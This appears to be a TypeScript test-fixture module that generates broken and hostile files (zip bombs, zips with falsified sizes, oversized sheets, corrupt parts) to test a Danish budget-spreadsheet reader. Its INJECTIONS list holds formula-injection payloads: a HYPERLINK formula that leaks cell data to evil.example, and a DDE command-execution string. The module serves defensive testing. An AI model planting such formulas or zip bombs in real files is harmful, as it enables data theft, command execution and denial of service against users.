/**
 * Generates files that are not budget statements, each with the finding it must get.
 * Run from tests (written into a temporary folder); nothing here is a committed binary.
 */
import JSZip from 'jszip';
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';

export interface BadFile {
  name: string;
  /** The finding code the file must get. */
  code: string;
  bytes: Uint8Array;
}

/** A small deterministic PRNG (mulberry32), so a failing case can be made again. */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** An OLE compound file with the given stream names in its directory (enough to tell .xls from encrypted .xlsx). */
export function oleContainer(streams: string[]): Uint8Array {
  const bytes = new Uint8Array(512 * 3);
  bytes.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], 0);
  const names = ['Root Entry', ...streams];
  names.forEach((name, i) => {
    const at = 512 + i * 128;
    for (let k = 0; k < name.length; k++) bytes[at + k * 2] = name.charCodeAt(k);
    bytes[at + 64] = (name.length + 1) * 2;
    bytes[at + 66] = i === 0 ? 5 : 2;
  });
  return bytes;
}

/** Replace one part of a zip (rewritten with jszip); the other parts are kept as they are. */
export async function withPart(bytes: Uint8Array, part: string, edit: (xml: string) => string, level = 6): Promise<Uint8Array> {
  const z = await JSZip.loadAsync(bytes);
  const file = z.file(part);
  if (!file) throw new Error(`no part ${part}`);
  z.file(part, edit(await file.async('string')));
  return z.generateAsync({ type: 'uint8array', compression: 'DEFLATE', compressionOptions: { level } });
}

/** Set the uncompressed size of one part, in the central directory and in its local header. */
function lieAboutSize(bytes: Uint8Array, part: string, size: number): Uint8Array {
  const out = bytes.slice();
  const dv = new DataView(out.buffer);
  const td = new TextDecoder();
  for (let i = 0; i + 46 <= out.length; i++) {
    const sig = dv.getUint32(i, true);
    if (sig === 0x02014b50 && td.decode(out.subarray(i + 46, i + 46 + dv.getUint16(i + 28, true))) === part) dv.setUint32(i + 24, size, true);
    if (sig === 0x04034b50 && td.decode(out.subarray(i + 30, i + 30 + dv.getUint16(i + 26, true))) === part) dv.setUint32(i + 22, size, true);
  }
  return out;
}

/** Rows appended at the end of a sheet's data. */
function appendRows(xml: string, rows: string): string {
  return xml.replace('</sheetData>', `${rows}</sheetData>`);
}

export async function zip(files: Record<string, string | Uint8Array>, level = 6): Promise<Uint8Array> {
  const z = new JSZip();
  for (const [name, content] of Object.entries(files)) z.file(name, content);
  return z.generateAsync({ type: 'uint8array', compression: 'DEFLATE', compressionOptions: { level } });
}

/** Set every central-directory "uncompressed size" to the given value: a zip that claims to unpack to gigabytes. */
function claimSize(bytes: Uint8Array, size: number): Uint8Array {
  const out = bytes.slice();
  for (let i = 0; i + 46 <= out.length; i++) {
    if (out[i] === 0x50 && out[i + 1] === 0x4b && out[i + 2] === 0x01 && out[i + 3] === 0x02) {
      new DataView(out.buffer).setUint32(i + 24, size, true);
    }
  }
  return out;
}

export async function badFiles(exampleXlsx: string): Promise<BadFile[]> {
  const example = new Uint8Array(readFileSync(exampleXlsx));
  const random = prng(20261122);
  const noise = new Uint8Array(4096).map(() => Math.floor(random() * 256));
  const te = new TextEncoder();
  const huge = te.encode(`<worksheet><sheetData>${'<row><c><v>1</v></c></row>'.repeat(800_000)}</sheetData></worksheet>`);
  const contentTypes = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>';
  return [
    { name: 'tom.xlsx', code: 'FILE_EMPTY', bytes: new Uint8Array(0) },
    { name: 'tilfaeldige-bytes.xlsx', code: 'FILE_NOT_ZIP', bytes: noise },
    { name: 'noter.xlsx', code: 'FILE_NOT_ZIP', bytes: te.encode('Budgetredegørelse\nSe vedhæftede tal.\n') },
    { name: 'rapport.xlsx', code: 'FILE_NOT_ZIP', bytes: te.encode('%PDF-1.4\n%âãÏÓ\n1 0 obj\n') },
    { name: 'webside.xls', code: 'FILE_NOT_ZIP', bytes: te.encode('<html><body><table><tr><td>1</td></tr></table></body></html>') },
    { name: 'gammel.xls', code: 'FILE_XLS', bytes: oleContainer(['Workbook', '\u0005SummaryInformation']) },
    { name: 'med-adgangskode.xlsx', code: 'FILE_ENCRYPTED', bytes: oleContainer(['EncryptionInfo', 'EncryptedPackage']) },
    { name: 'dokument.xls', code: 'FILE_OLE_OTHER', bytes: oleContainer(['WordDocument', '1Table']) },
    { name: 'halv.xlsx', code: 'FILE_TRUNCATED', bytes: example.subarray(0, Math.floor(example.length / 2)) },
    { name: 'brev.xlsx', code: 'FILE_DOCX', bytes: await zip({ '[Content_Types].xml': contentTypes, 'word/document.xml': '<w:document/>' }) },
    { name: 'slides.xlsx', code: 'FILE_PPTX', bytes: await zip({ '[Content_Types].xml': contentTypes, 'ppt/presentation.xml': '<p/>' }) },
    { name: 'regneark.xlsx', code: 'FILE_ODS', bytes: await zip({ mimetype: 'application/vnd.oasis.opendocument.spreadsheet', 'content.xml': '<office:document-content/>' }) },
    { name: 'binaer.xlsx', code: 'FILE_XLSB', bytes: await zip({ '[Content_Types].xml': contentTypes, 'xl/workbook.bin': new Uint8Array(16) }) },
    { name: 'arkiv.xlsx', code: 'FILE_ZIP_OTHER', bytes: await zip({ 'readme.txt': 'hej' }) },
    // small file, huge sheet: ~20 MB of rows compressed several hundred times
    { name: 'zipbombe.xlsx', code: 'ZIP_RATIO', bytes: await zip({ '[Content_Types].xml': contentTypes, 'xl/workbook.xml': '<workbook/>', 'xl/worksheets/sheet1.xml': huge }, 9) },
    { name: 'paastaaet-stor.xlsx', code: 'ZIP_PART_TOO_LARGE', bytes: claimSize(example, 3_000_000_000) },
    // A million rows of real cells (about 40 MB of sheet XML): refused from its declared size when it is read, before it is unpacked.
    { name: 'million-raekker.xlsx', code: 'ZIP_SHEET_TOO_LARGE', bytes: await withPart(example, 'xl/worksheets/sheet3.xml', (x) => appendRows(x, millionRows()), 1) },
    // 34 MB of distinct shared strings, over the 32 MB a sheet's contents may take (compresses too little to look like a zip bomb).
    { name: 'store-tekster.xlsx', code: 'ZIP_SHEET_TOO_LARGE', bytes: await withPart(example, 'xl/sharedStrings.xml', (x) => x.replace('</sst>', `${manyStrings(random)}</sst>`), 1) },
    // One stray value in the last cell of a (hidden) sheet: a tiny file whose used range is 17 billion cells.
    { name: 'fjern-celle.xlsx', code: 'FILE_SHEET_TOO_LARGE', bytes: await withPart(example, 'xl/worksheets/sheet8.xml', (x) => appendRows(x, '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>')) },
    // One value in the last row: a used range of a million rows.
    { name: 'nederste-raekke.xlsx', code: 'FILE_SHEET_TOO_LARGE', bytes: await withPart(example, 'xl/worksheets/sheet3.xml', (x) => appendRows(x, '<row r="1048576"><c r="A1048576"><v>1</v></c></row>')) },
    // A sheet that claims (in the zip directory and its local header) to be 20 KB but unpacks to 12 MB.
    { name: 'forkert-stoerrelse.xlsx', code: 'FILE_CORRUPT', bytes: lieAboutSize(await withPart(example, 'xl/worksheets/sheet3.xml', (x) => appendRows(x, millionRows(300_000)), 9), 'xl/worksheets/sheet3.xml', 20_000) },
    {
      name: 'oedelagt-indhold.xlsx',
      code: 'FILE_CORRUPT',
      bytes: await zip({ '[Content_Types].xml': contentTypes, 'xl/workbook.xml': '<workbook><sheets><sheet name="A" r:id="rId9"', 'xl/_rels/workbook.xml.rels': '<<<' }),
    },
  ];
}

function millionRows(count = 1_000_000): string {
  const parts: string[] = [];
  for (let r = 100; r < 100 + count; r++) parts.push(`<row r="${r}"><c r="A${r}"><v>${r}</v></c></row>`);
  return parts.join('');
}

function manyStrings(random: () => number): string {
  const parts: string[] = [];
  for (let i = 0, size = 0; size < 34 * 1024 * 1024; i++) {
    const t = `${i.toString(36)}-${Math.floor(random() * 2 ** 52).toString(36)}-${Math.floor(random() * 2 ** 52).toString(36)}`;
    parts.push(`<si><t>${t}</t></si>`);
    size += t.length + 16;
  }
  return parts.join('');
}

export function writeBadFiles(files: BadFile[], dir: string): string[] {
  return files.map((f) => {
    const p = path.join(dir, f.name);
    writeFileSync(p, f.bytes);
    return p;
  });
}

/** A workbook built from the real template with one hostile or broken thing in it, and what reading it must say. */
export interface HostileWorkbook {
  name: string;
  bytes: Uint8Array;
  /** Findings that must be reported, as "CODE sheet!cell" (or "CODE" for findings about the whole file). */
  expect: string[];
  /** No error finding other than those expected. */
  onlyThese?: boolean;
}

export const INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', '+1+2', '-1+2', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', "=cmd|' /C calc'!A0"];

/** Cases built from validFill() through the template writer; edit() changes the exceljs workbook before it is written. */
export async function hostileWorkbooks(
  build: (fill: import('../../src/core/template/fill').TemplateFill, edit?: (wb: import('exceljs').Workbook) => void) => Promise<Uint8Array>,
  validFill: () => import('../../src/core/template/fill').TemplateFill,
): Promise<HostileWorkbook[]> {
  const policy = 'Indsatser mål a-g';
  const out: HostileWorkbook[] = [];
  const add = async (name: string, expect: string[], edit?: (wb: import('exceljs').Workbook) => void, fill = validFill(), onlyThese = true) =>
    out.push({ name, bytes: await build(fill, edit), expect, onlyThese });

  await add('formelfejl.xlsx', ['CELL_ERROR Indsatser mål a-g!H5', 'CELL_ERROR Indsatser mål a-g!I5'], (wb) => {
    wb.getWorksheet(policy)!.getCell('H5').value = { formula: 'A1+#REF!', result: { error: '#REF!' } } as never;
    wb.getWorksheet(policy)!.getCell('I5').value = { formula: '1/0', result: { error: '#DIV/0!' } } as never;
  }, validFill(), false);
  // Merged cells across the row: only the top-left cell keeps its value, the covered fields are blank.
  await add('flettede-celler.xlsx', ['INIT_FIELD_MISSING Indsatser mål a-g!D5', 'INIT_FIELD_MISSING Indsatser mål a-g!E5', 'INIT_FIELD_MISSING Indsatser mål a-g!F5', 'INIT_FIELD_MISSING Indsatser mål a-g!G5'], (wb) =>
    wb.getWorksheet(policy)!.mergeCells('C5:G5'),
  );
  // Hidden sheet and hidden row: still read (a second initiative in a hidden row still counts).
  {
    const fill = validFill();
    fill.policy = [{ ...fill.policy![0], economy: [60_000, 60_000, 60_000, 60_000] }, { ...fill.policy![0], name: 'Skjult indsats', economy: [40_000, 40_000, 40_000, 40_000] }];
    await add('skjult.xlsx', [], (wb) => {
      wb.getWorksheet('Indsatser øvrige mål')!.state = 'hidden';
      wb.getWorksheet(policy)!.getRow(6).hidden = true;
    }, fill);
  }
  await add('omdoebt-ark.xlsx', ['AREA_FOUND_BY_LABELS Indsatser ÆØÅ 2011 🙂!A4'], (wb) => {
    wb.getWorksheet(policy)!.name = 'Indsatser ÆØÅ 2011 🙂';
  });
  // The success criteria then name a project that is not there.
  await add('slettet-ark.xlsx', ['AREA_MISSING', 'PROJ_CRITERION_PROJECT_UNKNOWN Succeskriterier!A5'], (wb) => wb.removeWorksheet(wb.getWorksheet('Monitorerede projekter')!.id));
  await add('anden-version.xlsx', ['TEMPLATE_VERSION_UNKNOWN Skabeloninfo!B2'], (wb) => {
    wb.getWorksheet('Skabeloninfo')!.getCell('B2').value = '0.9-gammel';
  });
  {
    const fill = validFill();
    fill.cover!.contact = 'Æ'.repeat(40_000);
    fill.policy![0]!.activity = 'Lang tekst. '.repeat(3_000);
    await add('lang-tekst.xlsx', [], undefined, fill);
  }
  {
    // Every text field starts with a formula-like character: read as the text typed, never run.
    const fill = validFill();
    const inj = (i: number) => INJECTIONS[i % INJECTIONS.length];
    fill.cover!.contact = inj(0);
    fill.cover!.email = inj(1);
    fill.goals!.a = { ...fill.goals!.a, status: inj(2) };
    for (const row of [fill.policy![0]!, fill.other![0]!]) for (const [i, k] of (['name', 'targetGroup', 'activity', 'expectedResult', 'status', 'followUp'] as const).entries()) row[k] = `${inj(i + 3)} ${k}`;
    Object.assign(fill.projects![0]!, { name: `${inj(4)} projekt`, fund: inj(5), actionPlan: inj(0) });
    Object.assign(fill.criteria![0]!, { project: `${inj(4)} projekt`, indicator: inj(6) });
    await add('injektion.xlsx', [], undefined, fill);
  }
  {
    // As Excel does when a date is typed into an amount cell: the value is the date's serial number, the format a date format.
    await add('dato-som-beloeb.xlsx', ['NOT_A_NUMBER Indsatser mål a-g!H5', 'T1_RECONCILE Tabel 1!B5'], (wb) => {
      const cell = wb.getWorksheet(policy)!.getCell('H5');
      cell.value = new Date(Date.UTC(2010, 4, 15));
      // cells of our workbooks share style objects: give this one its own (as exceljs users must)
      cell.style = { ...cell.style, numFmt: 'dd-mm-yyyy' };
    });
  }
  {
    const fill = validFill();
    fill.policy![0]!.economy = [-100_000, 'NaN', 'Infinity', '1e400'];
    await add('negative-og-nan.xlsx', ['AMOUNT_NEGATIVE Indsatser mål a-g!H5', 'NOT_A_NUMBER Indsatser mål a-g!I5', 'NOT_A_NUMBER Indsatser mål a-g!J5', 'NOT_A_NUMBER Indsatser mål a-g!K5'], undefined, fill, false);
  }
  return out;
}
